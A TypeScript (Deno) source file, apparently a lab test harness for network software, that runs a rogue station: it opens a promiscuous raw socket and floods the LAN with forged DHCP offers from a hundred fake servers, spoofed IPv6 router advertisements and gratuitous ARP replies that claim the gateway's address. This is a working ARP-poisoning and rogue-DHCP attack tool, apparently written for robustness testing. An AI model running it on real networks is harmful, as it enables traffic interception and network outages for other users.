// A hostile station in the lab: answers every DHCP question as a hundred servers, advertises itself as a thousand IPv6
// routers, and says that it has an address that it has not, a thousand times a second. `rogue.ts INDEX GATEWAY SECONDS`
import { openNative } from "../../core/native/ffi.ts";
import { arpFrame, parseUdp, udpFrame } from "../../plugins/wan-discovery/frames/frames.ts";

const [index = "", gateway = "", seconds = ""] = Deno.args;
const native = openNative();
// Requests of DHCP clients: UDP to port 67.
const fd = native.packetOpen(Number(index), {
  filter: [[0x28, 0, 0, 12], [0x15, 0, 4, 0x0800], [0x30, 0, 0, 23], [0x15, 0, 2, 17], [0x06, 0, 0, 2048], [
    0x06,
    0,
    0,
    0,
  ], [0x06, 0, 0, 0]],
  promiscuous: true,
});
const buffer = new Uint8Array(2048);
const mac = (count: number) =>
  `02:66:6c:6f:${(count >> 8 & 255).toString(16).padStart(2, "0")}:${
    (count & 255).toString(16).padStart(2, "0")
  }`;
const send = (frame: Uint8Array<ArrayBuffer>) => native.write(fd, frame, 0, frame.length);

/** The question turned into an offer of one of many servers. */
function offer(question: Uint8Array<ArrayBuffer>, count: number): Uint8Array<ArrayBuffer> {
  const server = [10, 66, count & 255, 1];
  const options = [
    53,
    1,
    2,
    54,
    4,
    ...server,
    1,
    4,
    255,
    255,
    255,
    0,
    3,
    4,
    ...server,
    51,
    4,
    0,
    0,
    14,
    16,
    255,
  ];
  const payload = new Uint8Array(300);
  payload.set(question.subarray(0, 240));
  payload[0] = 2;
  payload.set([10, 66, count & 255, 50], 16);
  payload.set(options, 240);
  return payload;
}

/** An advertisement with the right checksum. */
function advertisement(count: number): Uint8Array<ArrayBuffer> {
  const frame = new Uint8Array(14 + 40 + 16);
  const own = mac(count).split(":").map((byte) => parseInt(byte, 16));
  frame.set([0x33, 0x33, 0, 0, 0, 1, ...own, 0x86, 0xdd, 0x60, 0, 0, 0, 0, 16, 58, 255, 0xfe, 0x80]);
  frame.set(own, 32);
  frame.set([0xff, 0x02], 38);
  frame[53] = 1;
  frame.set([134, 0, 0, 0, 64, 0, 7, 8], 54);
  const summed = [...frame.subarray(22, 54), 0, 0, 0, 16, 0, 0, 0, 58, ...frame.subarray(54)];
  let sum = 0;
  for (let at = 0; at < summed.length; at += 2) sum += summed[at]! << 8 | summed[at + 1]!;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  frame.set([(~sum >> 8) & 255, ~sum & 255], 56);
  return frame;
}

console.log("hostile");
const end = performance.now() + Number(seconds) * 1000;
for (let count = 0; performance.now() < end;) {
  for (let turn = 0; turn < 20; turn++, count++) {
    const pretended = { operation: "reply", sender: gateway, target: "0.0.0.0" } as const;
    send(arpFrame({ ...pretended, senderMac: mac(count % 1000), targetMac: "ff:ff:ff:ff:ff:ff" }));
    send(advertisement(count % 1000));
  }
  for (let length; (length = native.read(fd, buffer, 0, buffer.length)) > 0;) {
    const question = parseUdp(buffer.subarray(0, length));
    if (question?.toPort !== 67) continue;
    for (let server = 0; server < 100; server++) {
      send(udpFrame({
        ...{
          fromMac: mac(server),
          toMac: "ff:ff:ff:ff:ff:ff",
          from: `10.66.${server}.1`,
          to: "255.255.255.255",
        },
        ...{ fromPort: 67, toPort: 68, payload: offer(question.payload, server) },
      }));
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 20));
}
